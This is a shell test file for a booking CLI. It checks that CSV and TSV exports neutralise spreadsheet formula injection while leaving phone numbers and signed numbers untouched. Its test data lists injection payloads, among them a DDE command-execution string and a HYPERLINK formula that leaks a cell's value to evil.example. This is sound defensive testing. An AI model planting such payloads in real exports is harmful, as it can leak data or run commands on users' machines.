#!/usr/bin/env bats
# csv and tsv defuse what a spreadsheet would run, and only that: a cell
# that starts with = or @, a tab or a carriage return, or + or - followed
# by anything but a plain number (or, after +, a phone number) gets a
# leading '. Phone numbers and signed numbers are left as they are.
# Python's csv module reads berth's output back as the oracle.

load helper

# Runs a formula through a customer name and reads every list format
# back: prints "csv|tsv<TAB>customer cell" one a line.
cells_of() {
	local f
	for f in csv tsv; do
		berth --format "$f" list --resource workshop >"$BATS_TEST_TMPDIR/out.$f"
	done
	python3 - "$BATS_TEST_TMPDIR" <<'EOF'
import csv, sys
d = sys.argv[1]
with open(d + "/out.csv", newline="", encoding="utf-8") as f:
    rows = list(csv.DictReader(f))
for r in rows:
    print("csv\t" + r["customer"])
with open(d + "/out.tsv", newline="", encoding="utf-8") as f:
    rows = list(csv.DictReader(f, dialect="excel-tab", quoting=csv.QUOTE_NONE))
for r in rows:
    print("tsv\t" + r["customer"])
EOF
}

# book_as CUSTOMER: one booking a customer, a minute apart.
n=0
book_as() {
	n=$((n + 1))
	berth -q book workshop "2026-06-10T09:$(printf %02d "$n")" --duration 1m --customer "$1"
}

@test "csv/tsv: formula payloads get a leading quote" {
	seed
	payloads=(
		'=1+1'
		'@SUM(A1)'
		"+cmd|' /C calc'!A0"
		'-2+3'
		'=HYPERLINK("http://evil.example/?x="&A1,"click")'
		'-cmd|calc'
		'+A1'
		'-1+1|x'
		'+5 =1'
		'-'"'"'x'
		'+.'
		'-5.'
		'++1'
		'+1--2'
		'@'
		'='
	)
	for p in "${payloads[@]}"; do book_as "$p"; done
	run cells_of
	assert_success
	want=$(for f in csv tsv; do for p in "${payloads[@]}"; do printf "%s\t'%s\n" "$f" "$p"; done; done)
	[ "$output" = "$want" ] || { diff <(echo "$want") <(echo "$output"); false; }
}

@test "csv/tsv: plain numbers and phone numbers are left alone" {
	seed
	safe=(
		'+351912345678'
		'+351 912 345 678'
		'+1-555-0100'
		'+44.20.7946.0958'
		'-5'
		'+3.5'
		'-0.25'
		'-.5'
		'+7'
		'-'
		'+'
		'a=b'
		'ann'
		'5-3'
	)
	for p in "${safe[@]}"; do book_as "$p"; done
	run cells_of
	assert_success
	want=$(for f in csv tsv; do for p in "${safe[@]}"; do printf '%s\t%s\n' "$f" "$p"; done; done)
	[ "$output" = "$want" ] || { diff <(echo "$want") <(echo "$output"); false; }
}

@test "csv/tsv: json and table print the payloads as they are" {
	seed
	book_as '+351912345678'
	book_as '=1+1'
	[ "$(berth --format jsonl list | jq -r .customer | paste -sd' ')" = '+351912345678 =1+1' ]
	run berth list
	assert_success
	assert_output --partial '+351912345678'
	refute_output --partial "'=1+1"
}
